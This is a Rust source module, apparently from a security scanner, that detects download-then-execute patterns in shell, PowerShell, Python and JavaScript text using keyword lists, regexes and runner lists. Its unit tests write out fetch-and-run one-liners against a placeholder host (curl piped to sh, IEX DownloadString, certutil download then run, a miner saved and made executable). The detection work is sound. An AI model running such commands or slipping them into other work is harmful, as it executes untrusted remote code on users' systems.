//! Recognition of "download, then execute" in shell, PowerShell, Python and
//! JavaScript text, around one occurrence of a download keyword.
//!
//! The caller hands over a bounded piece of text around the keyword; every
//! regex here runs on that piece only.

use std::sync::LazyLock;

use regex::bytes::Regex;

use crate::text::{find_ci, is_word};

/// Keywords that start the analysis, in lower case.
pub(crate) const KEYWORDS: [&str; 17] = [
    "curl",
    "wget",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "start-bitstransfer",
    "certutil",
    "bitsadmin",
    "urlopen",
    "urlretrieve",
    "requests.get",
    "fetch(",
    "http.get(",
];

/// How a download is executed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct DownloadExec {
    /// A phrase for the message: "pipes it into `sh`".
    pub(crate) how: String,
}

/// How far the "then execute" part may lie after the download command.
const LOOKAHEAD: usize = 1536;

/// Piping the download into an interpreter: `| sh`, `| sudo bash -s --`,
/// `| iex`. The flags are checked in code: `python -c …` or `perl -ne …`
/// process the download as data and run their own program.
static PIPE_TO_INTERPRETER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:^|[^|])\|\s*(?:sudo\s+(?:-[a-z]+\s+)*)?(?:env\s+(?:[a-z_][a-z0-9_]*=\S*\s+)*)?(?:/usr/local/bin/|/usr/bin/|/bin/)?(bash|sh|zsh|dash|ksh|ash|python[0-9.]*|perl|ruby|node|php|iex|invoke-expression|pwsh|powershell(?:\.exe)?|source)\b((?:\s+-{1,2}[a-z][a-z0-9-]*)*)\s*(?:$|[;&|)'"`\\]|-(?:\s|$)|--|\n)"#,
    )
    .expect("valid regex")
});

/// An interpreter that runs the output of a command substitution or process
/// substitution that the download is the start of: `sh -c "$(curl …)"`,
/// `bash <(wget …)`, `eval "$(curl …)"`, `. <(curl …)`.
static WRAPPED_IN_INTERPRETER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:\b(?:bash|sh|zsh|dash|ksh|python[0-9.]*|perl|ruby|node)\s+(?:-[a-z]+\s+)*(?:-c\s+)?["']?(?:\$\(|`)|\b(?:bash|sh|zsh|source)\s+<\(|(?:^|[;&|\s])\.\s+<\(|\beval\s+["']?(?:\$\(|`))\s*$"#,
    )
    .expect("valid regex")
});

/// PowerShell running the string it downloads, written around the download:
/// `IEX (New-Object Net.WebClient).DownloadString(…)`, `iex (iwr …)`,
/// `&([scriptblock]::Create((irm …)))`. (`iwr … | iex` is a pipe.)
static POWERSHELL_WRAPPER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:\b(?:iex|invoke-expression)|\[scriptblock\]::create)[\s(]*(?:new-object\s+(?:-typename\s+)?[\w.]+\s*\)\s*\.\s*)?$")
        .expect("valid regex")
});

/// `exec(` or `eval(` (Python, JavaScript), `new Function(` or
/// `Function(`: the download is inside the call if the parenthesis is still
/// open at the keyword.
static CODE_EXECUTOR: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:\b(?:exec|eval)|\bFunction)\s*\(").expect("valid regex"));

/// Making a file executable.
static CHMOD_EXECUTABLE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bchmod\s+(?:-[a-z]+\s+)*(?:[ugoa]*\+[rwst]*x|[0-7]*[1357][0-7]*\b)")
        .expect("valid regex")
});

/// Where a download is saved: `-o FILE`, `-O FILE`, `--output FILE`,
/// `-OutFile FILE`, `> FILE`, or the second argument of `urlretrieve`.
static OUTPUT_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:\s-outfile\s+|\s--output(?:-document)?[=\s]\s*|\s-o\s*|\s>\s*|urlretrieve\s*\([^,()]{1,300},\s*|downloadfile\s*\([^,()]{1,300},\s*)["']?([^\s"';&|()<>]{1,200})"#,
    )
    .expect("valid regex")
});

/// Where `certutil -urlcache -f URL FILE` and `bitsadmin /transfer NAME URL
/// FILE` save a download: the argument after the URL.
static CERTUTIL_OUTPUT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\bhttps?://[^\s"']+["']?\s+["']?([^\s"';&|()<>]{1,200})"#)
        .expect("valid regex")
});

/// Programs that run the file named after them (`sh x`, `start /B x.exe`).
const RUNNER_WORDS: [&str; 24] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "source",
    ".",
    "python",
    "python3",
    "node",
    "perl",
    "ruby",
    "exec",
    "start",
    "start-process",
    "invoke-item",
    "call",
    "cmd",
    "powershell",
    "pwsh",
    "regsvr32",
    "rundll32",
    "wscript",
    "cscript",
    "mshta",
];

/// Calls that run the file named in their arguments.
const RUNNER_CALLS: [&str; 8] = [
    "os.system(",
    "os.startfile(",
    "subprocess.",
    "popen(",
    "os.exec",
    "spawn(",
    "execfile(",
    "start-process",
];

/// Analyses the download keyword at `at` (of `keyword_len` bytes) in `text`.
/// `before` is where the logical line of the keyword starts in `text` and
/// `line_end` where it ends; `text` may go on beyond it with following lines.
pub(crate) fn analyse(
    text: &[u8],
    before: usize,
    at: usize,
    keyword_len: usize,
    line_end: usize,
) -> Option<DownloadExec> {
    let keyword = text[at..at + keyword_len].to_ascii_lowercase();
    let keyword = keyword.as_slice();
    let head = &text[before..at];
    let rest = &text[at..line_end];

    if let Some(captures) = PIPE_TO_INTERPRETER.captures(rest) {
        let interpreter = String::from_utf8_lossy(&captures[1]).to_ascii_lowercase();
        let flags = String::from_utf8_lossy(captures.get(2).map_or(&b""[..], |m| m.as_bytes()))
            .to_ascii_lowercase();
        if reads_stdin(&interpreter, &flags) {
            return Some(DownloadExec {
                how: format!("pipes it into `{interpreter}`"),
            });
        }
    }
    if WRAPPED_IN_INTERPRETER.is_match(tail(head, 200)) {
        return Some(DownloadExec {
            how: "runs its output as a script".to_owned(),
        });
    }
    let powershell_download = matches!(
        keyword,
        b"iwr"
            | b"invoke-webrequest"
            | b"irm"
            | b"invoke-restmethod"
            | b"downloadstring"
            | b"downloaddata"
    );
    if powershell_download && POWERSHELL_WRAPPER.is_match(tail(head, 120)) {
        return Some(DownloadExec {
            how: "runs it with `Invoke-Expression`".to_owned(),
        });
    }
    if let Some(executor) = open_executor(tail(head, 120)) {
        return Some(DownloadExec {
            how: format!("passes it to `{executor}`"),
        });
    }
    let saves_to_file = matches!(
        keyword,
        b"curl"
            | b"wget"
            | b"iwr"
            | b"invoke-webrequest"
            | b"irm"
            | b"invoke-restmethod"
            | b"start-bitstransfer"
            | b"downloadfile"
            | b"urlretrieve"
            | b"certutil"
            | b"bitsadmin"
    );
    if !saves_to_file {
        return None;
    }
    let after = &text[at..(line_end + LOOKAHEAD).min(text.len())];
    let then = next_command_start(after);
    if CHMOD_EXECUTABLE.is_match(&after[then..]) {
        return Some(DownloadExec {
            how: "saves it and makes it executable".to_owned(),
        });
    }
    let output = if matches!(keyword, b"certutil" | b"bitsadmin") {
        CERTUTIL_OUTPUT.captures(rest)?
    } else {
        OUTPUT_FILE.captures(rest)?
    };
    let path = output.get(1)?;
    let name = path.as_bytes();
    let base = name
        .iter()
        .rposition(|b| *b == b'/' || *b == b'\\')
        .map_or(name, |i| &name[i + 1..]);
    if base.len() < 2 {
        return None;
    }
    let base_lower = base.to_ascii_lowercase();
    let mut from = path.end();
    while let Some(found) = find_ci(&after[from..], &base_lower) {
        let at_name = from + found;
        from = at_name + base.len();
        if runs_file(&after[..at_name]) {
            return Some(DownloadExec {
                how: format!(
                    "saves it as `{}` and runs it",
                    String::from_utf8_lossy(base)
                ),
            });
        }
    }
    None
}

/// Whether an interpreter started with `flags` reads its program from the
/// pipe.
fn reads_stdin(interpreter: &str, flags: &str) -> bool {
    let single_dash = flags
        .split_whitespace()
        .filter(|f| f.starts_with('-') && !f.starts_with("--"));
    let shell = matches!(
        interpreter,
        "bash" | "sh" | "zsh" | "dash" | "ksh" | "ash" | "source"
    );
    let program_flags: &[char] = if shell {
        &['c']
    } else {
        &['c', 'e', 'm', 'n', 'p', 'r', 'f']
    };
    !single_dash
        .into_iter()
        .any(|f| f[1..].contains(program_flags))
}

/// The last `n` bytes of `bytes`.
fn tail(bytes: &[u8], n: usize) -> &[u8] {
    &bytes[bytes.len().saturating_sub(n)..]
}

/// The executor whose parenthesis is still open at the end of `head`
/// (`exec(urlopen(` → `exec`).
fn open_executor(head: &[u8]) -> Option<String> {
    let last = CODE_EXECUTOR.find_iter(head).last()?;
    let inside = &head[last.end()..];
    let opens = inside.iter().filter(|b| **b == b'(').count();
    let closes = inside.iter().filter(|b| **b == b')').count();
    (closes <= opens).then(|| {
        let name = String::from_utf8_lossy(&head[last.start()..last.end() - 1]);
        name.trim().to_owned()
    })
}

/// Where the command after the download starts: after the next `;`, `&&`,
/// `|` or line break.
fn next_command_start(after: &[u8]) -> usize {
    after
        .iter()
        .position(|b| matches!(b, b';' | b'&' | b'|' | b'\n'))
        .unwrap_or(after.len())
}

/// Whether the command that `before` ends in runs the file named right
/// after it: the file is the command itself (`./x`, `/tmp/x`, `"$HOME/x"`),
/// the argument of a runner (`sh x`, `start /B x.exe`, `regsvr32 -s x.dll`) or
/// of a call that runs it (`os.system("x")`).
fn runs_file(before: &[u8]) -> bool {
    let start = before
        .iter()
        .rposition(|b| matches!(b, b';' | b'&' | b'|' | b'\n' | b'`'))
        .map_or(0, |i| i + 1);
    let segment = String::from_utf8_lossy(&before[start..]).to_ascii_lowercase();
    let command = segment.trim_start().trim_start_matches(['"', '\'', '(']);
    if !command.contains(char::is_whitespace) {
        return true;
    }
    let first = command.split_whitespace().next().unwrap_or("");
    let first = first.strip_suffix(".exe").unwrap_or(first);
    if RUNNER_WORDS.contains(&first) {
        return true;
    }
    // A call that runs its first argument: the file must be that argument,
    // or follow only runner words (`subprocess.call(["sh", f` runs f;
    // `subprocess.run(["tar", "xzf", f` reads it).
    RUNNER_CALLS.iter().any(|call| {
        command.rfind(call).is_some_and(|i| {
            let args = &command[i + call.len()..];
            let args = if call.ends_with('(') {
                args
            } else {
                args.split_once('(').map_or(args, |(_, a)| a)
            };
            let pieces: Vec<&str> = args.split(',').collect();
            pieces[..pieces.len() - 1].iter().all(|p| {
                let word = p.trim().trim_matches(['[', '(', '"', '\'', ' ']);
                let word = word.rsplit('/').next().unwrap_or(word);
                let word = word.strip_suffix(".exe").unwrap_or(word);
                RUNNER_WORDS.contains(&word) || matches!(word, "-c" | "/c" | "-file" | "/b")
            })
        })
    })
}

/// Finds the download keywords of `text` that stand as words and analyses
/// each; returns the first download that is executed, with the keyword's
/// offset. Used on short command strings such as npm scripts.
pub(crate) fn analyse_command(text: &[u8]) -> Option<(usize, DownloadExec)> {
    let lower = text.to_ascii_lowercase();
    for keyword in KEYWORDS {
        let mut from = 0;
        while let Some(found) = memchr::memmem::find(&lower[from..], keyword.as_bytes()) {
            let at = from + found;
            from = at + 1;
            if !keyword_stands_alone(text, at, keyword.len()) {
                continue;
            }
            if let Some(found) = analyse(text, 0, at, keyword.len(), text.len()) {
                return Some((at, found));
            }
        }
    }
    None
}

/// Whether a keyword occurrence is a word of its own (`curl`, not `curly`);
/// keywords that end in punctuation only need a boundary before them.
pub(crate) fn keyword_stands_alone(text: &[u8], at: usize, len: usize) -> bool {
    let last = text.get(at + len - 1).copied().unwrap_or(b' ');
    if crate::text::is_ascii_ident(last) {
        is_word(text, at, at + len)
    } else {
        at == 0 || !crate::text::is_ascii_ident(text[at - 1])
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn how(command: &str) -> Option<String> {
        analyse_command(command.as_bytes()).map(|(_, d)| d.how)
    }

    #[test]
    fn pipes_into_interpreters() {
        assert_eq!(
            how("curl -fsSL https://x.example/i.sh | sh").as_deref(),
            Some("pipes it into `sh`")
        );
        assert_eq!(
            how("curl -s https://x.example | sudo bash -s -- --yes").as_deref(),
            Some("pipes it into `bash`")
        );
        assert_eq!(
            how("wget -qO- https://x.example/i | python3 -").as_deref(),
            Some("pipes it into `python3`")
        );
        assert_eq!(
            how("iwr https://x.example/a.ps1 | iex").as_deref(),
            Some("pipes it into `iex`")
        );
        assert_eq!(
            how("curl https://api.example/v1 | python -m json.tool"),
            None
        );
        assert_eq!(
            how("curl https://api.example/v1 | python3 -c 'import json'"),
            None
        );
        assert_eq!(how("curl https://x.example/a.tgz | tar xz"), None);
        assert_eq!(how("curl https://x.example/a | sha256sum"), None);
        assert_eq!(how("curl -o x https://x.example || echo failed"), None);
    }

    #[test]
    fn interpreters_around_the_download() {
        assert!(how("sh -c \"$(curl -fsSL https://x.example/install.sh)\"").is_some());
        assert!(how("bash <(wget -qO- https://x.example/i)").is_some());
        assert!(
            how("IEX (New-Object Net.WebClient).DownloadString('http://x.example/p.ps1')")
                .is_some()
        );
        assert!(how("exec(urlopen('http://x.example/p.py').read())").is_some());
        assert!(how("exec(requests.get(URL).text)").is_some());
        assert!(how("data = urlopen(u).read(); exec_count += 1").is_none());
        assert!(how("iex (iwr https://x.example/a.ps1)").is_some());
        assert!(
            how("aliases = 'h history icm iex ihy ii ipal irm ise iwmi iwr kill lp'").is_none()
        );
    }

    #[test]
    fn saved_then_run() {
        assert_eq!(
            how("wget https://x.example/miner -O /tmp/miner && chmod +x /tmp/miner").as_deref(),
            Some("saves it and makes it executable")
        );
        assert_eq!(
            how("curl -o /tmp/x.sh https://x.example/x.sh; sh /tmp/x.sh").as_deref(),
            Some("saves it as `x.sh` and runs it")
        );
        assert_eq!(
            how("iwr https://x.example/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe").as_deref(),
            Some("saves it as `u.exe` and runs it")
        );
        assert!(how("curl -o data.json https://api.example/x && cat data.json").is_none());
        assert_eq!(
            how(
                "certutil -urlcache -split -f http://x.example/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"
            )
            .as_deref(),
            Some("saves it as `a.exe` and runs it")
        );
        assert_eq!(
            how("urllib.request.urlretrieve(URL, dest)\nos.startfile(dest)").as_deref(),
            Some("saves it as `dest` and runs it")
        );
        assert_eq!(
            how("Invoke-WebRequest -Uri $u -OutFile $p; & $p").as_deref(),
            Some("saves it as `$p` and runs it")
        );
        assert!(how("chmod +x build.sh && curl -o out.txt https://x.example").is_none());
    }
}
